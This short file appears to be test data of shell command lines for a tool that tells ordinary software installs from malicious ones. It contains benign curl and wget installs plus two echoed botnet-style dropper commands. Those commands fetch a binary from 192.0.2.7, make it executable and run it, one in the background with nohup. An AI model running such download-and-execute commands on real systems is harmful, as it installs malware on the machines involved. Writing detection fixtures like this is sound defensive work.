# SPDX-License-Identifier: Apache-2.0
# fake: /usr/bin/wget /usr/bin/curl /usr/bin/dpkg
sh -c 'cd /srv/app && curl -fsSLO https://example.org/app.tar.gz && tar xzf app.tar.gz'
sh -c 'cd /tmp && wget -q https://example.org/a.deb && dpkg -i a.deb'
sh -c 'curl -fsSLo /usr/local/bin/tool https://example.org/tool && chmod +x /usr/local/bin/tool && tool --version'
sh -c 'wget -q https://example.org/tool; chmod 755 tool; ./tool --version'
/bin/echo sh -c 'cd /tmp || cd /var/run || cd /mnt; wget -q http://192.0.2.7/bins/x86; chmod 777 x86; ./x86 ssh'
/bin/echo bash -c 'curl -s -o /var/tmp/a http://192.0.2.7/a && chmod +x /var/tmp/a && nohup /var/tmp/a &'
